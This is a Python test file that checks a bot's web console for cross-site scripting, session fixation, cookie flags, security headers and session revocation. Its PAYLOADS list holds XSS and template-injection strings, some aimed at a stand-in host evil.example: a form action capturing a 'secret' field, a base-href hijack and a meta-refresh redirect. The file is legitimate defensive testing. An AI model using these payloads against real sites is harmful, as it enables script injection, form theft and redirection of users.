"""Attacks on the console: stolen and fixed sessions, forms of others, texts that are markup."""

from html.parser import HTMLParser
from pathlib import Path

import aiohttp
import pytest
from yarl import URL

from bot.plugins.console.website import ROUTES
from bot.testing.console_home import Town, console_town

pytestmark = pytest.mark.asyncio(loop_scope="module")
PAYLOADS = (
    "<script>bad()</script>",
    "<img src=x onerror=bad()>",
    '"><svg onload=bad()>',
    "'-bad()-'",
    "</pre></textarea><iframe src=javascript:bad()>",
    "{{ 7 * 7 }}{% for x in y %}",
    "javascript:bad()",
    '<a href="javascript:bad()">x</a>',
    "&lt;b onmouseover=bad()&gt;",
    "<style>*{display:none}</style><base href=//evil.example>",
    "<form action=//evil.example><input name=secret>",
    "<!-- --><meta http-equiv=refresh content='0;url=//evil.example'>",
)
HOSTILE = " ".join(PAYLOADS)
ALLOWED = {
    *("html", "head", "meta", "title", "link", "script", "body", "a", "header", "button", "nav"),
    *("ul", "ol", "li", "div", "p", "strong", "br", "span", "form", "input", "main", "h1", "h2"),
    *("h3", "dl", "dt", "dd", "table", "thead", "tbody", "tr", "th", "td", "label", "select"),
    *("option", "figure", "figcaption", "svg", "rect", "pre", "details", "summary", "article"),
    *("code", "fieldset", "legend"),
}


class Markup(HTMLParser):
    """What a browser would make of a page: no tag, handler or address of somebody else."""

    def __init__(self, base: str) -> None:
        super().__init__()
        self.base = base

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED, tag
        given = dict(attrs)
        assert not [name for name in given if name.startswith("on") or name == "style"], attrs
        for name in ("href", "src", "action", "data-live"):
            if name in given:
                assert (given[name] or "").startswith((self.base, "#")), (tag, given)
        if tag == "meta":
            assert "http-equiv" not in given
        if tag == "script":
            assert given == {"src": f"{self.base}/static/console.js", "defer": None}


@pytest.fixture(scope="module")
def hostile_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("hostile")


async def test_no_text_of_people_and_tools_becomes_markup(hostile_home: Path):
    seen = ""
    async with console_town(hostile_home, HOSTILE) as town:
        refs = await town.house.app.database.read("SELECT ref FROM approvals")
        runs = await town.house.app.database.read(
            "SELECT cycle_id FROM cycle_events WHERE type = 'cycle_start'"
        )
        async with town.visitor("owner") as owner:
            paths = [one.path for one in ROUTES if one.method == "GET" and "{" not in one.path]
            paths = [one for one in paths if not one.endswith(("live", "file", "export"))]
            paths += [f"/runs/{row['cycle_id']}" for row in runs]
            paths += [f"/approvals/{row['ref']}" for row in refs]
            paths += ["/staged/tidy", "/people/owner", "/usage?by=person", "/usage?by=tool"]
            paths += ["/memory?tier=shared", "/log?words=%3Cscript%3E&level=DEBUG"]
            paths += ["/runs?person=%22%3E%3Cscript%3E", "/rights?in=%22%3E%3Cscript%3E"]
            for path in paths:
                text = await owner.look(path)
                Markup("/console").feed(text)
                assert "<script>bad" not in text
                seen += text
            await owner.look("/runs/%3Cscript%3Ebad()%3C%2Fscript%3E", 404)
            async with owner.http.get(f"{town.address}/live") as live:
                async for line in live.content:
                    if line.startswith(b"data: "):
                        assert b"<script>bad" not in line
                        break
    for place in ("Olga", "call", "water", "likes tea", "list.md", "closes at six", "tidy"):
        assert place in seen
    assert seen.count("&lt;script&gt;bad()") > 15


async def test_a_session_that_somebody_planted_is_none(town: Town):
    planted = "A" * 43
    async with town.visitor() as victim:
        victim.http.cookie_jar.update_cookies({"bellhop-console": planted}, _url(town))
        await victim.look("", 401)
        async with victim.http.post(await town.link("ann")):
            await victim.look("")
        async with town.visitor() as thief:
            thief.http.cookie_jar.update_cookies({"bellhop-console": planted}, _url(town))
            await thief.look("", 401)


async def test_signing_in_anew_ends_the_session_before(town: Town):
    async with town.visitor("ann") as browser:
        before = _cookie(browser.http)
        async with browser.http.post(await town.link("ann")) as answer:
            assert answer.status == 200
        assert _cookie(browser.http) != before
        async with town.visitor() as thief:
            thief.http.cookie_jar.update_cookies({"bellhop-console": before}, _url(town))
            await thief.look("", 401)


async def test_neither_link_nor_cookie_is_kept_in_a_form_that_signs_in(town: Town):
    link = await town.link("ann")
    async with town.visitor("owner") as browser:
        cookie = _cookie(browser.http)
        rows = [
            *await town.house.app.database.read("SELECT * FROM console_links"),
            *await town.house.app.database.read("SELECT * FROM console_sessions"),
        ]
        kept = " ".join(str(value) for row in rows for value in dict(row).values())
        assert rows
        assert link.rpartition("/")[2] not in kept
        assert cookie not in kept


async def test_the_cookie_is_for_this_site_and_no_script(town: Town):
    async with (
        aiohttp.ClientSession() as http,
        http.post(await town.link("ann"), allow_redirects=False) as answer,
    ):
        header = answer.headers["Set-Cookie"]
        assert "HttpOnly" in header
        assert "SameSite=Strict" in header
        assert "Path=/console" in header


async def test_every_answer_forbids_scripts_of_others_frames_and_caches(town: Town):
    async with town.visitor("owner") as owner:
        for path in ("", "/runs", "/nowhere", "/own/export", "/static/console.css"):
            async with owner.http.get(f"{town.address}{path}") as answer:
                if path == "/nowhere":
                    assert answer.status == 404
                    continue
                policy = answer.headers["Content-Security-Policy"]
                assert "default-src 'none'" in policy
                assert "unsafe" not in policy
                assert answer.headers["X-Frame-Options"] == "DENY"
                assert answer.headers["Referrer-Policy"] == "no-referrer"
                assert answer.headers["X-Content-Type-Options"] == "nosniff"


async def test_a_lost_role_ends_the_session(town: Town):
    contacts = Path(town.house.app.settings.home) / "contacts.yaml"
    before = contacts.read_text()
    async with town.visitor("ann") as ann:
        await ann.look("")
        contacts.write_text(before.replace("role: Friend", "role: Banned"))
        await town.house.app.contacts.reload_if_changed()
        await ann.look("", 401)
        contacts.write_text(before)
        await town.house.app.contacts.reload_if_changed()
        await ann.look("", 401)


async def test_a_person_who_gets_another_id_signs_in_anew(town: Town):
    contacts = Path(town.house.app.settings.home) / "contacts.yaml"
    before = contacts.read_text()
    async with town.visitor("gwen") as gwen:
        await gwen.look("")
        said = len(town.house.chat.posts)
        contacts.write_text(
            f"{before}- {{id: gwen, name: Gwen, role: Guest, ids: {{discord: [gwen]}}}}\n"
        )
        await town.house.app.contacts.reload_if_changed()
        await gwen.look("", 401)
        assert "I know you as Gwen now" in (await town.house.chat.until(said + 1))[said].text
    contacts.write_text(before)
    await town.house.app.contacts.reload_if_changed()
    rows = await town.house.app.database.read(
        "SELECT 1 FROM console_sessions WHERE person = 'discord-gwen'"
    )
    assert rows == []


async def test_signing_out_ends_the_session_on_the_server(town: Town):
    async with town.visitor("ann") as ann:
        cookie = _cookie(ann.http)
        await ann.press("", "/sign-out")
        async with town.visitor() as thief:
            thief.http.cookie_jar.update_cookies({"bellhop-console": cookie}, _url(town))
            await thief.look("", 401)


def _cookie(http: aiohttp.ClientSession) -> str:
    return next(one.value for one in http.cookie_jar if one.key == "bellhop-console")


def _url(town: Town) -> URL:
    return URL(town.address)
